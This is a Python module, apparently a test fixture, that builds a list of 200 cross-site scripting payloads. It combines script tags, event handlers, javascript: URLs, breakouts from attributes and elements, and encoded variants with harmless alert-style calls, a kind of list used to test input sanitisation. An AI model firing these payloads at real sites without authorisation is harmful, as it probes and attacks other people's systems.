"""Texts that would run as a script, or become markup, where a page took them for its own: two hundred of them."""

_CALLS = ("alert(1)", "alert`1`", "confirm(1)", "prompt(1)", "top.alert(1)")
_ELEMENTS = (
    "<script>{}</script>",
    "<ScRiPt>{}</ScRiPt>",
    "<script x>{}</script y>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'//",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<math href='javascript:{}'>x</math>",
    "<a href='javascript:{}' autofocus>x</a>",
    "<form><button formaction='javascript:{}'>x</button></form>",
    "<object data='javascript:{}'></object>",
    "<template><img src=x onerror={}></template>",
    "<style>@import 'javascript:{}';</style>",
)
_BREAKOUTS = (
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    '" autofocus onfocus={} x="',
    "' autofocus onfocus={} x='",
    "</title><script>{}</script>",
    "</script><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "</option></select><img src=x onerror={}>",
    "</iframe><script>{}</script>",
)
_WORDS = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "data:text/html,<script>{}</script>",
    "{{{{{}}}}}",
    "{{% set x = {} %}}",
    "${{{}}}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
)
PAYLOADS = [form.format(call) for form in (*_ELEMENTS, *_BREAKOUTS, *_WORDS) for call in _CALLS]
